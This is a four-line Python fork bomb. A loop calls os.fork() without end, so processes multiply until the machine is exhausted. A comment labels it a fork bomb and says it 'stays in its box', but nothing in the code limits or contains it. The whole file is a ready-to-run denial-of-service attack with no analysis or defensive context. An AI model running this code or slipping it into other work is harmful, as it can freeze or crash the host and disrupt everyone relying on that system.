# A fork bomb. It stays in its box.
import os

while True:
    os.fork()
